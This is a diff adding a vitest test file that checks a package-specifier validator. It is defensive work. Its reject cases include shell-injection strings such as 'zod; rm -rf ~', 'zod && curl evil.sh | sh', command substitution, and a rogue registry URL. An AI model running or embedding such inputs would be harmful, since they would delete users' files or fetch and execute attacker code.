@@ -0,0 +1,30 @@
+import { describe, expect, it } from "vitest";
+import { isValidPackageSpecifier } from "../src/utils/package-manager.js";
+
+describe("isValidPackageSpecifier", () => {
+  it.each([
+    "zod",
+    "zod@^4.0.0",
+    "@radix-ui/react-separator",
+    "@radix-ui/react-separator@~1.1.0",
+    "react@>=18 <20",
+    "class-variance-authority@latest",
+    "typescript@next",
+  ])("accepts %j", (specifier) => {
+    expect(isValidPackageSpecifier(specifier)).toBe(true);
+  });
+
+  it.each([
+    "",
+    "zod; rm -rf ~",
+    "zod && curl evil.sh | sh",
+    "zod@$(whoami)",
+    "zod@`id`",
+    "--registry=https://evil.example",
+    "zod@not a range",
+    "../local-package",
+    "Zod",
+  ])("rejects %j", (specifier) => {
+    expect(isValidPackageSpecifier(specifier)).toBe(false);
+  });
+});